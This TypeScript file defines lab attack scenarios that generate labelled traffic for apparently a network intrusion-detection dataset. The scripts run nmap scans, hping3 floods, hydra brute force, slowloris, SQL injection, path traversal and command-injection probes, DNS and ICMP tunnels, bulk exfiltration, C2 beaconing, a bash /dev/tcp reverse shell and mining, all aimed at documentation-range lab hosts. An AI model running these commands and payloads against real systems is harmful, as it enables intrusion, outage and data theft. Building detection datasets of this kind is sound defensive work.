/**
 * Attack scenarios: real tools from Debian, each run as a bash script inside its own attacker
 * namespace with its own address (so a flow's label follows from its addresses and time span).
 * Targets are only lab hosts; every loop has a fixed count and the script a time limit.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { Rng } from '../model/random.ts';
import { C2_NAME, type LabHost, nsName, OUTSIDE, SERVERS } from './plan.ts';

export interface ScenarioContext {
  /** The scenario's own directory (wordlists, tool state). */
  dir: string;
  /** Files the scenario may upload (the run's web root). */
  work: string;
  /** Seconds the scenario may run. */
  limit: number;
  seed: number;
  /** The lab's certificate and key (for servers a scenario starts itself). */
  cert?: string;
  key?: string;
}

/** Directory of the lab's small Node servers. */
export const DAEMONS = join(import.meta.dirname, 'daemons');

export interface ScenarioSpec {
  name: string;
  /** Main tool (the `tool` column of labels.csv). */
  tool: string;
  /** Executables the script needs; a missing one skips the scenario. */
  needs: string[];
  attacker: LabHost;
  victims: string[];
  ports: string;
  description: string;
  /** 'slot': a share of the run; 'long': most of the run (low-rate behaviour such as beaconing). */
  span: 'slot' | 'long';
  /**
   * The host also has ordinary (benign) traffic for the whole run, as an infected workstation
   * would; then only its flows to the victims belong to the scenario.
   */
  background?: 'office' | 'light';
  /** Longest useful run time in seconds. */
  maxSeconds: number;
  /**
   * A far end the scenario brings along (e.g. a tunnel server), created only when it runs; flows
   * with its address belong to the scenario too.
   */
  peer?: LabHost;
  /** DNS names the scenario looks up (a C2 domain): the attacker's queries for them are its flows. */
  names?: string[];
  /** Why the scenario cannot run here (beyond missing tools), or null. */
  unavailable?: () => string | null;
  script(ctx: ScenarioContext): string;
}

/** The far end of the iodine tunnel and its zone (the lab resolver forwards the zone to it). */
export const TUNNEL_SERVER: LabHost = { id: 'o-tunnel', ip: '203.0.113.53', role: 'outside' };
export const TUNNEL_ZONE = 't.corp-tunnel.example';
/** Far ends of the implant scenarios (ICMP tunnel, reverse shell, mining pool). */
export const ICMP_PEER: LabHost = { id: 'o-icmp', ip: '203.0.113.70', role: 'outside' };
export const SHELL_OPERATOR: LabHost = { id: 'o-shell', ip: '203.0.113.71', role: 'outside' };
export const MINING_POOL: LabHost = { id: 'o-pool', ip: '203.0.113.72', role: 'outside' };
/** Commands the operator sends (given to its daemon) and the only ones the reverse shell runs. */
const SHELL_COMMANDS = [
  'id',
  'whoami',
  'hostname',
  'uname -a',
  'ls /',
  'ls /etc',
  'cat /etc/os-release',
  'ip addr',
  'df -h',
  'ps ax',
];

const attacker = (id: string, n: number): LabHost => ({ id, ip: `198.51.100.${n}`, role: 'attacker' });
const insider = (id: string, n: number): LabHost => ({ id, ip: `192.0.2.${n}`, role: 'insider' });
const S = SERVERS;
const ALL_SERVERS = [S.web.ip, S.ftp.ip, S.ssh.ip, S.mail.ip, S.dns.ip];

/**
 * Beacon check-ins to `host` for the scenario's time: small HTTPS requests every
 * max(1.5 s, span/60) ± 40 % (uniform jitter), seeded per scenario.
 */
function beaconCommands(c: { limit: number; seed: number }, host: string, salt: number): string[] {
  const rng = new Rng(c.seed * 131 + salt);
  const period = Math.max(1.5, c.limit / 60);
  const cmds: string[] = [];
  for (let t = 0, i = 0; t < c.limit && i < 1000; i++) {
    cmds.push(`timeout 8 curl -sk -m 5 -o /dev/null 'https://${host}/b?id=7f3a&n=${i}' || true`);
    const gap = period * (0.6 + 0.8 * rng.next());
    cmds.push(`sleep ${gap.toFixed(2)}`);
    t += gap + 0.1;
  }
  return cmds;
}

/** Seeded word list (never contains the real passwords, so brute force runs through it all). */
export function wordlist(seed: number, n: number): string[] {
  const rng = new Rng(seed * 7919 + 17);
  const stems = [
    'summer',
    'winter',
    'admin',
    'letmein',
    'dragon',
    'qwerty',
    'monkey',
    'secret',
    'welcome',
    'shadow',
  ];
  return Array.from({ length: n }, (_, i) => `${stems[rng.int(stems.length)]}${rng.int(10000)}${i}`);
}

/** Percent-encodes everything but unreserved characters (safe inside a single-quoted shell word). */
const enc = (s: string) =>
  encodeURIComponent(s).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
const lines = (...l: string[]) => `#!/bin/bash\n${l.join('\n')}\n`;
const hydraLists = (ctx: ScenarioContext, n: number) =>
  `printf '%s\\n' labadmin labops > ${ctx.dir}/users.txt\nprintf '%s\\n' ${wordlist(ctx.seed, n).join(' ')} > ${ctx.dir}/words.txt`;

export const SCENARIOS: ScenarioSpec[] = [
  {
    name: 'scan-syn',
    tool: 'nmap',
    needs: ['nmap'],
    attacker: attacker('a-synscan', 11),
    victims: ALL_SERVERS,
    ports: 'top 200 TCP',
    description: 'nmap TCP SYN scan of the top 200 ports of every server',
    span: 'slot',
    maxSeconds: 40,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `nmap -sS -Pn -n -T4 --max-retries 1 --top-ports 200 --host-timeout ${c.limit}s -oN scan.txt ${ALL_SERVERS.join(' ')} >/dev/null`,
      ),
  },
  {
    name: 'scan-udp',
    tool: 'nmap',
    needs: ['nmap'],
    attacker: attacker('a-udpscan', 12),
    victims: [S.dns.ip, S.web.ip, S.mail.ip],
    ports: 'top 30 UDP',
    description: 'nmap UDP scan of the top 30 UDP ports of three servers',
    span: 'slot',
    maxSeconds: 40,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `nmap -sU -Pn -n --max-retries 0 --min-rate 30 --top-ports 30 --host-timeout ${c.limit}s -oN scan.txt ${S.dns.ip} ${S.web.ip} ${S.mail.ip} >/dev/null`,
      ),
  },
  {
    name: 'scan-version',
    tool: 'nmap',
    needs: ['nmap'],
    attacker: attacker('a-vscan', 13),
    victims: ALL_SERVERS,
    ports: '21,22,25,53,80,443',
    description: 'nmap service version probe and OS fingerprint of every server',
    span: 'slot',
    maxSeconds: 50,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `nmap -sV -O --osscan-limit -Pn -n -T4 --version-light -p 21,22,25,53,80,443 --host-timeout ${c.limit}s -oN scan.txt ${ALL_SERVERS.join(' ')} >/dev/null`,
      ),
  },
  {
    name: 'flood-syn',
    tool: 'hping3',
    needs: ['hping3'],
    attacker: attacker('a-synflood', 14),
    victims: [S.web.ip],
    ports: '80',
    description: 'hping3 SYN flood: 1,500 SYNs at 500/s to the web server (count-bounded)',
    span: 'slot',
    maxSeconds: 15,
    script: () => lines(`hping3 -q -S -p 80 -c 1500 -i u2000 ${S.web.ip} >/dev/null 2>&1`),
  },
  {
    name: 'bruteforce-ssh',
    tool: 'hydra',
    needs: ['hydra'],
    attacker: attacker('a-bfssh', 15),
    victims: [S.ssh.ip],
    ports: '22',
    description: 'hydra password guessing over SSH (2 users x 40 passwords, 6 tasks)',
    span: 'slot',
    maxSeconds: 45,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        hydraLists(c, 40),
        `hydra -I -q -L users.txt -P words.txt -t 6 -w 5 -o hydra.txt ssh://${S.ssh.ip} >/dev/null 2>&1`,
      ),
  },
  {
    name: 'bruteforce-ftp',
    tool: 'hydra',
    needs: ['hydra'],
    attacker: attacker('a-bfftp', 16),
    victims: [S.ftp.ip],
    ports: '21',
    description: 'hydra password guessing over FTP (2 users x 40 passwords, 6 tasks)',
    span: 'slot',
    maxSeconds: 45,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        hydraLists(c, 40),
        `hydra -I -q -L users.txt -P words.txt -t 6 -w 5 -o hydra.txt ftp://${S.ftp.ip} >/dev/null 2>&1`,
      ),
  },
  {
    name: 'bruteforce-http',
    tool: 'hydra',
    needs: ['hydra'],
    attacker: attacker('a-bfhttp', 17),
    victims: [S.web.ip],
    ports: '80',
    description: 'hydra HTTP basic-auth guessing on /admin/ (2 users x 60 passwords)',
    span: 'slot',
    maxSeconds: 40,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        hydraLists(c, 60),
        `hydra -I -q -L users.txt -P words.txt -t 4 -w 5 -o hydra.txt http-get://${S.web.ip}/admin/ >/dev/null 2>&1`,
      ),
  },
  {
    name: 'slowloris',
    tool: 'slowhttptest',
    needs: ['slowhttptest'],
    attacker: attacker('a-slowloris', 18),
    victims: [S.web.ip],
    ports: '80',
    description: 'slowhttptest slowloris: 120 connections sending headers slowly',
    span: 'slot',
    maxSeconds: 35,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `slowhttptest -H -c 120 -r 40 -i 5 -p 3 -l ${Math.max(5, Math.floor(c.limit - 3))} -u http://${S.web.ip}/index.html -t GET >/dev/null 2>&1`,
      ),
  },
  {
    name: 'slowread',
    tool: 'slowhttptest',
    needs: ['slowhttptest'],
    attacker: attacker('a-slowread', 19),
    victims: [S.web.ip],
    ports: '80',
    description: 'slowhttptest slow read: 80 connections reading a large file through a tiny window',
    span: 'slot',
    maxSeconds: 35,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `slowhttptest -X -c 80 -r 40 -w 10 -y 20 -n 3 -z 32 -k 2 -p 3 -l ${Math.max(5, Math.floor(c.limit - 3))} -u http://${S.web.ip}/big.bin >/dev/null 2>&1`,
      ),
  },
  {
    name: 'web-attack',
    tool: 'curl',
    needs: ['curl'],
    attacker: attacker('a-webatk', 20),
    victims: [S.web.ip],
    ports: '80,443',
    description: 'curl-driven SQL injection, path traversal and command injection probes against /app/',
    span: 'slot',
    maxSeconds: 40,
    script: () => {
      const probes = [
        ...[
          "1' OR '1'='1",
          "1' UNION SELECT username,password FROM users--",
          '1; DROP TABLE users--',
          "1' AND SLEEP(1)--",
          "admin'--",
          "1' ORDER BY 9--",
          "' OR 1=1#",
          '1) OR (1=1',
        ].map((q) => `app/search?q=${enc(q)}`),
        ...[
          '../../../../etc/passwd',
          '..%2f..%2f..%2fetc%2fpasswd',
          '....//....//etc/passwd',
          '/etc/shadow',
          '..\\..\\windows\\win.ini',
        ].map((f) => `app/file?name=${enc(f)}`),
        ...['127.0.0.1;id', '127.0.0.1|cat /etc/passwd', '$(whoami)', '`uname -a`', '127.0.0.1&&ls'].map(
          (h) => `app/ping?host=${enc(h)}`,
        ),
      ];
      const cmds: string[] = [];
      for (let round = 0; round < 4; round++) {
        for (const p of probes) {
          const scheme = (cmds.length & 1) === 0 ? 'http' : 'https';
          cmds.push(
            `timeout 10 curl -sk -m 8 -o /dev/null -A 'Mozilla/5.0 (probe)' '${scheme}://${S.web.ip}/${p}' || true`,
          );
          cmds.push(`sleep 0.${1 + (cmds.length % 4)}`);
        }
      }
      return lines(...cmds);
    },
  },
  {
    name: 'dns-tunnel',
    tool: 'dig',
    needs: ['dig'],
    attacker: insider('i-dnstun', 152),
    victims: [S.dns.ip],
    ports: '53/udp',
    description:
      'DNS tunnelling / exfiltration: a file sent as long base32 labels under corp-sync.example (dig, one query per chunk)',
    span: 'slot',
    maxSeconds: 45,
    script: (c) => {
      const rng = new Rng(c.seed * 31 + 5);
      const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
      const cmds: string[] = [];
      for (let i = 0; i < 120; i++) {
        const label = () => Array.from({ length: 52 + rng.int(10) }, () => alphabet[rng.int(32)]).join('');
        cmds.push(
          `timeout 5 dig +tries=1 +time=1 @${S.dns.ip} TXT ${label()}.${label()}.${i}.x.corp-sync.example >/dev/null || true`,
        );
        cmds.push(`sleep 0.${(i * 7) % 3}${rng.int(10)}`);
      }
      return lines(...cmds);
    },
  },
  {
    name: 'dns-tunnel-iodine',
    tool: 'iodine',
    needs: ['iodine', 'iodined'],
    attacker: insider('i-iodine', 153),
    peer: TUNNEL_SERVER,
    victims: [S.dns.ip, TUNNEL_SERVER.ip],
    ports: '53/udp',
    description:
      'iodine IP-over-DNS tunnel through the lab resolver to an outside iodined, then a 300 kB HTTPS upload inside the tunnel',
    span: 'slot',
    maxSeconds: 45,
    unavailable: () => (existsSync('/dev/net/tun') ? null : 'no /dev/net/tun for the tunnel interface'),
    script: (c) => {
      const peer = nsName(TUNNEL_SERVER);
      const pass = `lab${c.seed}tunnel`;
      return lines(
        `cd ${c.dir}`,
        `ip netns exec ${peer} iodined -f -c -P ${pass} -l ${TUNNEL_SERVER.ip} 10.99.0.1 ${TUNNEL_ZONE} > iodined.log 2>&1 &`,
        'sleep 1',
        `iodine -f -r -P ${pass} ${S.dns.ip} ${TUNNEL_ZONE} > iodine.log 2>&1 &`,
        'for i in $(seq 1 60); do ip -br addr show dns0 2>/dev/null | grep -q 10.99.0 && break; sleep 0.5; done',
        `ip netns exec ${peer} ${process.execPath} ${join(DAEMONS, 'https-sink.mjs')} 10.99.0.1 443 ${c.cert} ${c.key} ${c.dir} > sink.log 2>&1 &`,
        'sleep 1',
        'head -c 300000 /dev/urandom > payload.bin',
        `timeout ${Math.max(5, Math.floor(c.limit - 15))} curl -sk -m ${Math.max(4, Math.floor(c.limit - 16))} -T payload.bin https://10.99.0.1/up > upload.txt || true`,
        'sleep 2',
        'kill $(jobs -p) 2>/dev/null',
        'wait',
      );
    },
  },
  {
    name: 'exfil-bulk',
    tool: 'curl',
    needs: ['curl'],
    attacker: insider('i-exfil', 151),
    victims: [OUTSIDE.drop.ip],
    ports: '443',
    description: 'bulk exfiltration: 6 HTTPS uploads of 3 MB each to an outside-looking host',
    span: 'slot',
    background: 'office',
    maxSeconds: 40,
    script: (c) =>
      lines(
        `head -c 3145728 /dev/urandom > ${c.dir}/archive.bin`,
        ...Array.from(
          { length: 6 },
          (_, i) =>
            `timeout 15 curl -sk -m 12 -o /dev/null -T ${c.dir}/archive.bin https://${OUTSIDE.drop.ip}/upload/part${i} || true; sleep 1`,
        ),
      ),
  },
  {
    name: 'beacon-c2',
    tool: 'curl',
    needs: ['curl'],
    attacker: insider('i-beacon', 150),
    victims: [OUTSIDE.c2.ip],
    ports: '443',
    description: 'C2 beaconing: small HTTPS check-ins to an outside host every ~1.5 s with ±40 % jitter',
    span: 'long',
    background: 'light',
    maxSeconds: 100_000,
    script: (c) => lines(...beaconCommands(c, OUTSIDE.c2.ip, 7)),
  },
  {
    name: 'beacon-named',
    tool: 'curl',
    needs: ['curl'],
    attacker: insider('i-beacon2', 157),
    victims: [OUTSIDE.c2.ip],
    ports: '443',
    description: `C2 beaconing by name: the same check-ins to https://${C2_NAME}/ (a lookup through the lab resolver, then TLS with SNI), as implants that call a domain do`,
    span: 'long',
    background: 'light',
    maxSeconds: 100_000,
    names: [C2_NAME],
    script: (c) => lines(...beaconCommands(c, C2_NAME, 11)),
  },
  {
    name: 'icmp-tunnel',
    tool: 'hping3',
    needs: ['hping3'],
    attacker: insider('i-icmp', 154),
    peer: ICMP_PEER,
    victims: [ICMP_PEER.ip],
    ports: 'icmp',
    description:
      'ICMP tunnel / exfiltration: 120 echo requests carrying a random file as 400-byte payloads to an outside host (hping3 -E)',
    span: 'slot',
    background: 'light',
    maxSeconds: 45,
    script: (c) =>
      lines(
        `head -c 48000 /dev/urandom > ${c.dir}/chunk.bin`,
        `timeout ${Math.max(3, Math.floor(c.limit - 1))} hping3 --icmp -c 120 -i u${Math.round(Math.max(0.05, Math.min(0.3, (c.limit - 2) / 120)) * 1e6)} -d 400 -E ${c.dir}/chunk.bin ${ICMP_PEER.ip} > ${c.dir}/hping3.log 2>&1 || true`,
      ),
  },
  {
    name: 'reverse-shell',
    tool: 'bash',
    needs: ['bash'],
    attacker: insider('i-shell', 155),
    peer: SHELL_OPERATOR,
    victims: [SHELL_OPERATOR.ip],
    ports: '4444',
    description:
      'reverse shell: an implant connects out to an operator on port 4444 (bash /dev/tcp) and runs ~20 harmless commands typed seconds apart',
    span: 'slot',
    background: 'light',
    maxSeconds: 60,
    script: (c) => {
      const allowed = SHELL_COMMANDS.map((x) => `"${x}"`).join('|');
      return lines(
        `cd ${c.dir}`,
        `ip netns exec ${nsName(SHELL_OPERATOR)} ${process.execPath} ${join(DAEMONS, 'shell-operator.mjs')} ${SHELL_OPERATOR.ip} 4444 ${c.seed} 20 ${SHELL_COMMANDS.map((x) => `'${x}'`).join(' ')} > operator.log 2>&1 &`,
        'sleep 1',
        `timeout ${Math.max(3, Math.floor(c.limit - 2))} bash -c 'exec 3<>/dev/tcp/${SHELL_OPERATOR.ip}/4444 || exit 0; while IFS= read -r c <&3; do case "$c" in ${allowed}) $c >&3 2>&1 ;; *) break ;; esac; done' || true`,
        'kill $(jobs -p) 2>/dev/null',
        'wait',
      );
    },
  },
  {
    name: 'mining',
    tool: 'node',
    needs: [], // the lab's own node runs both ends
    attacker: insider('i-miner', 156),
    peer: MINING_POOL,
    victims: [MINING_POOL.ip],
    ports: '3333',
    description:
      'cryptomining: one long-lived Stratum session to an outside pool on port 3333 (jobs pushed every 4-8 s, a share submitted every ~5 s)',
    span: 'long',
    background: 'light',
    maxSeconds: 100_000,
    script: (c) =>
      lines(
        `cd ${c.dir}`,
        `ip netns exec ${nsName(MINING_POOL)} ${process.execPath} ${join(DAEMONS, 'stratum-pool.mjs')} ${MINING_POOL.ip} 3333 ${c.seed} > pool.log 2>&1 &`,
        'sleep 1',
        `timeout ${Math.max(3, Math.floor(c.limit - 1))} ${process.execPath} ${join(DAEMONS, 'stratum-miner.mjs')} ${MINING_POOL.ip} 3333 ${Math.max(2, Math.floor(c.limit - 3))} ${c.seed} || true`,
        'kill $(jobs -p) 2>/dev/null',
        'wait',
      ),
  },
];

export function scenarioNames(): string[] {
  return SCENARIOS.map((s) => s.name);
}
